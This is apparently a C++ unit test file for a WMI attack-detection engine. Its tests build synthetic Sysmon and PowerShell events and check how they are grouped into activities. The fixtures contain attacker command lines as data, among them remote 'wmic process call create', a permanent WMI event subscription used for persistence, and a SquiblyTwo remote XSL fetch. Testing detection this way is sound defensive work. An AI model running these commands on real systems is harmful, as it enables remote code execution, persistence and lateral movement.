// SPDX-License-Identifier: Apache-2.0
//
// How events are gathered into activities, by way of using WMI.
#include "engine/test_scan.h"

namespace wmiscope {
namespace {

using namespace scantest;
using namespace testkit;

TEST(Activities, RemoteFromOneSysmonRecord) {
  const Results r =
      scan_events({{child("2026-11-01T10:00:01Z", "cmd.exe /c whoami", "2026-11-01T10:00:00Z")}});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "wmi-process-create");
  EXPECT_EQ(a.origin.kind, OriginKind::kRemote);
  EXPECT_EQ(a.origin.confidence, Confidence::kMedium);
  EXPECT_TRUE(has_reason(a, "young-logon"));
  EXPECT_EQ(a.user, "EXAMPLE\\bob");
  EXPECT_TRUE(purposes(a).contains("lateral-movement"));
  EXPECT_TRUE(purposes(a).contains("account-recon"));
  ASSERT_EQ(r.findings.size(), 1U);
  EXPECT_EQ(r.findings[0].activity, a.id);
  EXPECT_EQ(a.findings, std::vector<std::string>{r.findings[0].id});
  EXPECT_EQ(a.id.size(), 32U);
  EXPECT_EQ(r.coverage.activities_total, 1U);
}

TEST(Activities, LogonInAnotherFileConfirms) {
  const Results r = scan_events({
      {child("2026-11-01T10:00:06Z", "cmd.exe /c dir", "2026-11-01T10:00:00Z")},
      {logon("2026-11-01T10:00:00Z", "192.0.2.9"), logon("2026-11-01T09:59:59Z", "192.0.2.9", 7)},
  });
  const Activity& a = r.only();
  EXPECT_EQ(a.origin.kind, OriginKind::kRemote);
  EXPECT_EQ(a.origin.confidence, Confidence::kHigh);
  EXPECT_EQ(a.origin.source_ip, "192.0.2.9");
  EXPECT_EQ(a.origin.logon_id, "0xc93745");
  EXPECT_EQ(a.origin.logon_type, 3U);
  // Its own logon and the one of the same connection.
  EXPECT_EQ(a.evidence_total, 3U);
}

TEST(Activities, NoContextIsNone) {
  ScanOptions options;
  options.context = false;
  const Results r = scan_events(
      {{child("2026-11-01T10:00:01Z", "cmd.exe /c whoami", "2026-11-01T10:00:00Z")}}, options);
  EXPECT_TRUE(r.activities.empty());
  ASSERT_EQ(r.findings.size(), 1U);
  EXPECT_TRUE(r.findings[0].activity.empty());
}

TEST(Activities, CallerAndChildOfOneHostAreOne) {
  const Results r = scan_events({{
      wmic("2026-11-01T10:00:00Z", "wmic process call create \"calc.exe /x\""),
      child("2026-11-01T10:00:00.088Z", "calc.exe  /x", "2026-11-01T09:00:00Z"),
  }});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "wmic-local");
  EXPECT_EQ(a.origin.kind, OriginKind::kLocal);
  EXPECT_EQ(count_role(a, "caller"), 1U);
  EXPECT_EQ(count_role(a, "main"), 1U);
  EXPECT_TRUE(purposes(a).contains("code-execution"));
  EXPECT_FALSE(purposes(a).contains("lateral-movement"));
  for (const Finding& finding : r.findings) EXPECT_EQ(finding.activity, a.id);
  EXPECT_EQ(r.findings.size(), 2U);
}

EventBuilder part(EventBuilder event, std::string_view at, std::string_view operation) {
  return event.at(at).data("Operation", operation).data("User", "EXAMPLE\\bob");
}

Events triad(std::string_view minute, std::string_view operation) {
  const std::string at = "2026-11-01T10:" + std::string(minute);
  return {
      part(sysmon_20(), at + ":00Z", operation)
          .data("Name", " \"Up\"")
          .data("Type", "Command Line")
          .data("Destination", " \"C:\\\\t\\\\a.exe %ProcessId%\""),
      part(sysmon_21(), at + ":01Z", operation)
          .data("Consumer", " \"CommandLineEventConsumer.Name=\\\"Up\\\"\"")
          .data("Filter", " \"__EventFilter.Name=\\\"Up\\\"\""),
      part(sysmon_19(), at + ":16Z", operation)
          .data("Name", " \"Up\"")
          .data("Query", " \"SELECT * FROM Win32_ProcessStartTrace\""),
  };
}

TEST(Activities, SubscriptionWithFiringAndDeletionIsOne) {
  Events events = triad("00", "Created");
  events.push_back(sysmon_1()
                       .at("2026-11-01T10:10:00Z")
                       .image("C:\\t\\a.exe")
                       .command_line("C:\\t\\a.exe 4242")
                       .user("NT AUTHORITY\\SYSTEM")
                       .parent(kWmiPrvSE, kUnsecured, 900)
                       .logon(0x3e7, "", 0));
  for (const EventBuilder& gone : triad("20", "Deleted")) events.push_back(gone);
  const Results r = scan_events({events});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "command-line-consumer");
  ASSERT_TRUE(a.subscription.has_value());
  EXPECT_EQ(a.subscription->filter.name, "Up");
  EXPECT_EQ(a.subscription->filter.kind, "process-start");
  EXPECT_EQ(a.subscription->consumer.class_name, "CommandLineEventConsumer");
  EXPECT_EQ(a.subscription->consumer.payload, "C:\\t\\a.exe %ProcessId%");
  EXPECT_EQ(a.subscription->bound, true);
  EXPECT_EQ(a.subscription->creator, "EXAMPLE\\bob");
  EXPECT_EQ(a.subscription->fired.size(), 1U);
  EXPECT_TRUE(a.subscription->created.known());
  EXPECT_TRUE(a.subscription->deleted.known());
  EXPECT_TRUE(purposes(a).contains("persistence"));
  EXPECT_EQ(a.origin.kind, OriginKind::kUnknown);
}

TEST(Activities, NameMadeAnewIsAnotherSubscription) {
  Events events = triad("00", "Created");
  for (const EventBuilder& gone : triad("20", "Deleted")) events.push_back(gone);
  for (const EventBuilder& again : triad("40", "Created")) events.push_back(again);
  const Results r = scan_events({events});
  ASSERT_EQ(r.activities.size(), 2U);
  EXPECT_TRUE(r.activities[0].subscription->deleted.known());
  EXPECT_FALSE(r.activities[1].subscription->deleted.known());
}

TEST(Activities, ProgramJustBeforeIsTheCreator) {
  Events events = {sysmon_1()
                       .at("2026-11-01T09:59:59.900Z")
                       .image("C:\\Users\\bob\\ghost.exe")
                       .command_line("ghost.exe")
                       .user("EXAMPLE\\bob")
                       .logon(0x51f2a, "2026-11-01T09:00:00Z", 2)};
  for (const EventBuilder& made : triad("00", "Created")) events.push_back(made);
  const Results r = scan_events({events});
  EXPECT_EQ(r.only().origin.kind, OriginKind::kLocal);
  EXPECT_TRUE(has_reason(r.only(), "creator-before"));
  EXPECT_EQ(count_role(r.only(), "caller"), 1U);
}

TEST(Activities, WmicThatMakesASubscriptionIsPartOfIt) {
  Events events = {wmic("2026-11-01T09:59:59Z",
                        "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE "
                        "Name=\"Up\", Query=\"SELECT * FROM Win32_ProcessStartTrace\"")};
  for (const EventBuilder& made : triad("00", "Created")) events.push_back(made);
  const Results r = scan_events({events});
  EXPECT_EQ(r.only().vector, "command-line-consumer");
  EXPECT_EQ(r.only().origin.kind, OriginKind::kLocal);
}

TEST(Activities, DefaultSubscriptionsAreKnownToBeHarmless) {
  const Results r =
      scan_events({{wmi_5861().at("2026-11-01T10:00:00Z"), wmi_5860().at("2026-11-01T10:00:01Z")}});
  ASSERT_EQ(r.activities.size(), 2U);
  for (const Activity& a : r.activities) {
    EXPECT_FALSE(a.benign.empty()) << a.summary;
    EXPECT_LE(a.risk_score, 10) << a.summary;
  }
  EXPECT_EQ(r.coverage.activities_benign, 2U);
}

TEST(Activities, ClientOnAnotherMachineIsRemote) {
  const Results r =
      scan_events({{wmi_5858()
                        .at("2026-11-01T10:00:00Z")
                        .data("ClientMachine", "KALI")
                        .data("User", "EXAMPLE\\bob")
                        .data("Operation",
                              "Start IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM "
                              "Win32_UserAccount")
                        .data("ResultCode", "0x80041032")}});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "wmi-query");
  EXPECT_EQ(a.origin.kind, OriginKind::kRemote);
  EXPECT_EQ(a.origin.source_host, "KALI");
  EXPECT_EQ(a.user, "EXAMPLE\\bob");
  EXPECT_TRUE(purposes(a).contains("account-recon"));
}

TEST(Activities, CallAndEffectOnTwoHostsAreLinked) {
  const Results r = scan_events({{
      wmic("2026-11-01T10:00:00Z", "wmic /node:WS02 process call create \"a.exe /z\""),
      child("2026-11-01T10:00:00.490Z", "a.exe /z", "2026-11-01T10:00:00Z")
          .computer("WS02.example.org"),
  }});
  ASSERT_EQ(r.activities.size(), 2U);
  const Activity& call = r.activities[0];
  const Activity& effect = r.activities[1];
  EXPECT_EQ(call.vector, "wmic-remote");
  EXPECT_EQ(call.origin.kind, OriginKind::kLocal);
  EXPECT_EQ(effect.origin.kind, OriginKind::kRemote);
  EXPECT_EQ(call.linked, std::vector<std::string>{effect.id});
  EXPECT_EQ(effect.linked, std::vector<std::string>{call.id});
  EXPECT_EQ(effect.origin.source_host, "ws01");
  EXPECT_EQ(effect.origin.source_user, "EXAMPLE\\bob");
}

TEST(Activities, CodeInsideTheHostIsAHijack) {
  const Results r = scan_events({{child("2026-11-01T10:00:01Z", "cmd.exe", "")
                                      .user("NT AUTHORITY\\NETWORK SERVICE")
                                      .logon(0x3e4, "", 0)}});
  EXPECT_EQ(r.only().vector, "provider-hijack");
}

TEST(Activities, OutputLeftInDumpFileIsDecoded) {
  const Results r =
      scan_events({{sysmon_13()
                        .at("2026-11-01T10:00:01Z")
                        .image("C:\\Windows\\system32\\wbem\\wmiprvse.exe")
                        .data("TargetObject",
                              "HKLM\\System\\CurrentControlSet\\Control\\CrashControl\\DumpFile")
                        .data("Details", "87,105,110,100,111,119,115,32,73,80")}});
  EXPECT_EQ(r.only().vector, "wmi-data-channel");
  ASSERT_EQ(r.only().decoded.size(), 1U);
  EXPECT_EQ(r.only().decoded[0].text, "Windows IP");
}

TEST(Activities, StyleSheetAndWhatItRunsAreOne) {
  const Results r = scan_events({{
      wmic("2026-11-01T10:00:00Z", "wmic os get /format:\"https://x.example/a.xsl\"")
          .process_id(700)
          .process_began("2026-11-01T10:00:00Z"),
      sysmon_1()
          .at("2026-11-01T10:00:02Z")
          .image(kCmd)
          .command_line("cmd.exe /c calc")
          .parent(kWmic, "wmic os get /format:\"https://x.example/a.xsl\"", 700,
                  "2026-11-01T10:00:00Z"),
      sysmon_3()
          .at("2026-11-01T10:00:01Z")
          .image(kWmic)
          .process_id(700)
          .process_began("2026-11-01T10:00:00Z"),
  }});
  const Activity& a = r.only();
  EXPECT_EQ(a.vector, "xsl-script");
  EXPECT_EQ(a.tool, "squiblytwo");
  EXPECT_EQ(a.evidence_total, 3U);
  EXPECT_TRUE(purposes(a).contains("command-and-control"));
}

TEST(Activities, PowershellScriptBlock) {
  const Results r = scan_events(
      {{powershell_4104()
            .at("2026-11-01T10:00:00Z")
            .data("ScriptBlockText",
                  "Get-WmiObject -Namespace root\\SecurityCenter2 -Class AntiVirusProduct")}});
  EXPECT_EQ(r.only().vector, "powershell-wmi");
  EXPECT_EQ(r.only().origin.kind, OriginKind::kLocal);
  EXPECT_TRUE(purposes(r.only()).contains("antivirus-detection"));
}

// Where Sysmon does not log subscriptions, the three calls that make one are one activity.
TEST(Activities, CallsThatMakeASubscriptionAreOne) {
  const std::string prefix = "wmic /namespace:\\\\root\\subscription PATH ";
  const Results r = scan_events({{
      wmic("2026-11-01T10:00:00Z", prefix + "__EventFilter CREATE Name=\"Up\""),
      wmic("2026-11-01T10:00:02Z", prefix + "CommandLineEventConsumer CREATE Name=\"Up\""),
      wmic("2026-11-01T10:00:05Z", prefix + "__FilterToConsumerBinding CREATE Filter=\"x\""),
      wmic("2026-11-01T12:00:05Z", prefix + "__EventFilter DELETE"),
  }});
  ASSERT_EQ(r.activities.size(), 2U);
  EXPECT_EQ(r.activities[0].vector, "command-line-consumer");
  EXPECT_EQ(count_role(r.activities[0], "caller"), 3U);
  EXPECT_EQ(r.activities[1].vector, "wmic-local");
}

TEST(Activities, ClassicPipelineJoinsTheOtherLog) {
  const Results r = scan_events({{
      powershell_4103()
          .at("2026-11-01T10:00:00Z")
          .data("Payload",
                "CommandInvocation(Get-WmiObject): \"Get-WmiObject\"\n"
                "ParameterBinding(Get-WmiObject): name=\"Class\"; "
                "value=\"Win32_Service\"\n"),
      EventBuilder("Windows PowerShell", "PowerShell", 800)
          .at("2026-11-01T10:00:01Z")
          .execution(0, 0)
          .unnamed(array_of({text("gwmi Win32_Process"), text("UserId=EXAMPLE\\bob"),
                             text("CommandInvocation(Get-WmiObject): \"Get-WmiObject\"\n")})),
  }});
  EXPECT_EQ(r.only().vector, "powershell-wmi");
  EXPECT_EQ(r.only().evidence_total, 2U);
}

TEST(Activities, ServicesThatReadAreNoAct) {
  const Results r =
      scan_events({{wmi_5858()
                        .at("2026-11-01T10:00:00Z")
                        .data("User", "NT AUTHORITY\\SYSTEM")
                        .data("Operation",
                              "Start IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM "
                              "Win32_Service")
                        .data("ResultCode", "0x80041032")}});
  EXPECT_TRUE(r.activities.empty());
}

}  // namespace
}  // namespace wmiscope
